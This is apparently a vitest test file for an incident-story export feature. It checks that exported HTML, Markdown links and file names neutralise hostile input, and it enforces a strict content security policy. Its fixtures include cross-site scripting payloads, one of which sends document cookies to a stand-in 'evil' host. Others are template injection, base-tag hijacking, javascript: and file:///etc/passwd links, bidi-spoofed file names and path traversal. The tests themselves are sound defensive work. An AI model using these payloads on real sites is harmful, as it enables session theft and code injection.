import { createHash } from 'node:crypto'
import { Window } from 'happy-dom'
import { describe, expect, test } from 'vitest'
import { plainStory } from '@/lib/share/rich'
import { storyFile, storyFolder } from '@/lib/share/story-file'
import { storyOf } from '@/lib/story/document'
import { fileName } from '@/lib/story/file-name'
import { codeSpan, fenced, guardLines, markdownText } from '@/lib/story/markdown-text'
import { readable, safeLink } from '@/lib/story/foreign'
import type { Amendment } from '@/lib/model/amendment'
import { incident } from '@/tests/fixtures/incident'
import { longTrail } from '@/tests/fixtures/long-trail'

const HOSTILE = [
  `<img src=x onerror=fetch('//evil/'+document.cookie)>`,
  '</script><script>alert(1)</script>',
  '</title><svg/onload=alert(1)>',
  '<!--<script>',
  '--> {{constructor.constructor("alert(1)")()}} ${7*7}',
  '</style><base href=http://evil/>',
  '" onclick="alert(1)',
  '\u2028\u2029\u0000\uD800\uFEFF',
  'report\u202Efdp.exe',
  `a${'\u0301'.repeat(5_000)}`,
]
const { whole, pictures } = incident()

/** Every text of the trail is hostile, and every link. */
const poisoned = (text: string, url: string): typeof whole => {
  const foreign = ['title', 'text', 'question', 'because', 'panel', 'unpinned', 'missed']
  const change = (key: string, value: unknown): unknown => {
    if (typeof value !== 'string') return value
    if (key === 'name') return text.slice(0, 100)
    if (foreign.includes(key)) return text.slice(0, 1_000)
    return ['url', 'pinned', 'link'].includes(key) ? url : value
  }
  return JSON.parse(JSON.stringify(whole), change) as typeof whole
}
/** A link to a place of the same story. */
const WITHIN = /^#e\d+$/
const isWithin = (element: { getAttribute: (name: string) => string | null }): boolean =>
  WITHIN.test(element.getAttribute('href') ?? '')

const parsed = (html: string) => {
  const window = new Window()
  return new window.DOMParser().parseFromString(html, 'text/html')
}

test.each(HOSTILE)('%j stays text in the exported page', (text) => {
  const document = parsed(storyFile(poisoned(text, 'javascript:alert(1)'), pictures, { zone: 'UTC' }))
  const scripts = [...document.querySelectorAll('script')]
  expect(scripts.map((script) => [script.getAttribute('type'), script.id])).toEqual([
    [null, ''],
    ['application/x-overshoulder-trail', 'overshoulder-trail'],
  ])
  const attributes = [...document.querySelectorAll('*')].flatMap((element) => [...element.attributes])
  expect(attributes.filter(({ name }) => name.startsWith('on') || name === 'style')).toEqual([])
  const foreign = document.querySelectorAll('base, iframe, object, embed, svg, form, link, a')
  expect([...foreign].filter((element) => element.tagName !== 'svg' && !isWithin(element))).toEqual([])
  expect([...document.querySelectorAll('svg')].filter((drawing) => !drawing.closest('.glance'))).toEqual([])
  expect(document.querySelectorAll('style')).toHaveLength(1)
  const heading = readable(text).replace(/\s+/g, ' ').trim()
  expect(document.querySelector('h1')?.textContent.replace(/\s+/g, ' ').trim()).toBe(heading)
})

test('the page allows its own style sheet and its own script, and nothing else', () => {
  const html = storyFile(whole, pictures, { zone: 'UTC' })
  const document = parsed(html)
  const policy = document.querySelector('meta[http-equiv]')?.getAttribute('content')
  const hashOf = (tag: string) =>
    createHash('sha256')
      .update(new RegExp(`<${tag}>(.*?)</${tag}>`, 's').exec(html)?.[1] ?? '')
      .digest('base64')
  expect(policy).toBe(
    `default-src 'none'; img-src data:; style-src 'sha256-${hashOf('style')}'; script-src 'sha256-${hashOf('script')}'; base-uri 'none'; form-action 'none'`,
  )
  const said = (name: string) => document.querySelector(`meta[name=${name}]`)?.getAttribute('content')
  expect([said('referrer'), said('robots')]).toEqual(['no-referrer', 'nofollow'])
  for (const link of document.querySelectorAll('a')) {
    if (isWithin(link)) continue
    expect(link.getAttribute('rel')).toBe('noreferrer')
    expect(link.getAttribute('href')).toMatch(/^https?:\/\//)
  }
  expect(
    [...document.querySelectorAll('img')].every((image) => (image.getAttribute('alt') ?? '') !== ''),
  ).toBe(true)
})

test('what the recap names leads to where it is told', () => {
  const document = parsed(storyFile(whole, pictures, { zone: 'UTC' }))
  const links = [...document.querySelectorAll('.recap a')]
  const told = (link: (typeof links)[number]) => document.querySelector(link.getAttribute('href') ?? '')
  expect(links.map(({ textContent }) => textContent)).toEqual([
    'Playback errors by device',
    'playback-17 drained at 21:40; smart TV errors back to 1.9/s by 21:46.',
    'Is a service failing its requests?',
    'Outbound retries by node',
    'Was it the 21:04 deploy of api?',
    'Did the license certificate expire?',
  ])
  for (const link of links) expect(told(link)?.textContent).toContain(link.textContent)
})

test('of a long trail figures are said as people say them, and the recap stays brief', () => {
  const long = longTrail(2_000)
  const { id: trailId, by } = long.trail
  const verdicts = long.leads.map(({ id, at }): Amendment => {
    const said = { id: `sure-${id}`, trailId, by, at: at + 1e9, leadId: id, because: 'seen', stepId: null }
    return { ...said, kind: 'verdict', verdict: 'confirmed' }
  })
  const page = parsed(storyFile({ ...long, amendments: verdicts }, pictures, { zone: 'UTC' }))
  const told = (part: string) => page.querySelector(part)?.textContent ?? ''
  expect(told('header')).toMatch(/1,\d{3} looks · .* · 1 d 9 h/)
  expect(told('.recap').match(/Confirmed: /g)).toHaveLength(8)
  expect(told('.recap')).toContain('7 more leads were confirmed.')
  expect(told('.resolved').match(/Confirmed/g)).toHaveLength(15)
})

test('a long title is cut at its heading and stands whole below it, once', () => {
  const title = 'Playback errors on smart TVs '.repeat(30).trim()
  const named = whole.amendments.map((row) => (row.kind === 'name' ? { ...row, title } : row))
  const long = { ...whole, amendments: named }
  const document = parsed(storyFile(long, pictures, { zone: 'UTC' }))
  const heading = document.querySelector('h1')?.textContent ?? ''
  expect(heading).toMatch(/^Playback errors on smart TVs .*…$/)
  expect(heading.length).toBeLessThanOrEqual(160)
  expect(document.querySelector('header details')?.textContent).toBe(`The whole title${title}`)
  expect(document.title).toContain(title)
  const copied = plainStory(storyOf(long, { zone: 'UTC' })).split('\n')
  expect(copied.filter((line) => line.includes('smart TVs Playback errors on'))).toEqual([heading])
})

test('a story of one moment says that moment, not a range', () => {
  const [first] = whole.steps.filter(({ kind }) => kind === 'snapshot')
  const one = { ...whole, steps: first ? [{ ...first, parentId: null, leadId: null }] : [], leads: [] }
  const document = parsed(storyFile({ ...one, amendments: [] }, pictures, { zone: 'UTC' }))
  expect(document.querySelector('.when')?.textContent).toMatch(/^21:16:05, 22 Nov 2026, UTC/)
})

test('the story tells its path by itself', () => {
  const text = parsed(storyFile(whole, pictures, { zone: 'UTC' })).querySelector('main')?.textContent ?? ''
  for (const said of [
    '15 looks · 6 snapshots · 2 tools · 2 dead ends · 3 people · 36 min',
    'How did you figure out what the problem was?',
    'Mara Lindqvist and Tom Okafor looked at Grafana and Prometheus.',
    'panel 27 of 42, row 13 of 21',
    'Reopened: Is a service failing its requests? — inbound is flat, but nobody has looked at outbound. Tom Okafor',
    'Dead end: Was it the 21:04 deploy of api? — eu-west-1 got the same version',
    'Ruled out: Was it the 21:04 deploy of api? — eu-west-1 got the same version',
    'Confirmed: Is a service failing its requests? — all retries to the license service come from one node of 60',
    'Shown by Outbound retries by node, 21:37: filter to service=playback, split by node, zoom in',
    'Is a service failing its requests? opened 21:18 · dead end 21:20 · reopened 21:27 by Tom Okafor · confirmed 21:39',
    'The longest quiet between two steps was 8 min 20 s',
  ])
    expect(text).toContain(said)
})

test.each([
  ['javascript:alert(1)', null],
  ['\u0001java\tscript:alert(1)', null],
  ['data:text/html,<script>', null],
  ['file:///etc/passwd', null],
  ['https://grafana.example.com@evil.example/', null],
  ['//evil', null],
  [String.raw`https:\\evil.example`, 'https://evil.example/'],
  ['http://0x7f.1/', 'http://127.0.0.1/'],
])('%j becomes the link %j', (url, href) => {
  expect(safeLink(url)).toBe(href)
})

test('what turns or hides is shown or gone', () => {
  expect(readable('a\u202Eb\u0000c\uD800d\uFEFF\u2028e')).toBe('a⟪U+202E⟫bc\uFFFDd\ne')
})

describe('Markdown', () => {
  test.each([
    ['](javascript:alert(1))', String.raw`\]\(javascript:alert\(1\)\)`],
    ['![](https://evil/pixel.png)', String.raw`\!\[\]\(` + '`https://evil/pixel.png)`'],
    ['<details> | <!-- x -->', String.raw`\<details\> \| \<\!-- x --\>`],
    ['@org/team and @here', '@\u200Borg/team and @\u200Bhere'],
    ['Fixes org/repo#1, GH-2', 'Fixes org/repo\\#\u200B1, GH-\u200B2'],
    ['{code} [[page]] &lt;', String.raw`\{code\} \[\[page\]\] &amp;lt;`],
  ])('%j calls nobody and closes nothing', (text, said) => {
    expect(markdownText(text)).toBe(said)
  })
  test('quick actions and lists at the start of a line are text', () => {
    expect(guardLines('/close\n- a\n1. b')).toBe('\\/close\n\\- a\n1\\. b')
  })
  test('no run of backticks ends a query', () => {
    expect(fenced('a ``` b')).toBe('````\na ``` b\n````')
    expect(codeSpan('`a`')).toBe('`` `a` ``')
  })
  test('names every picture by our own id', () => {
    const { markdown, files } = storyFolder(whole, pictures, { zone: 'UTC' })
    expect([...files.keys()]).toEqual([...pictures.keys()].map((id) => `pictures/${id}.png`))
    for (const name of files.keys()) expect(markdown).toContain(`](${name})`)
  })
})

test('file names come of ids, never of titles', () => {
  expect(fileName(poisoned(String.raw`..\..\CON`, ''), 'html')).toBe(
    'overshoulder-2026-11-22-trail-smart-tv.html',
  )
})
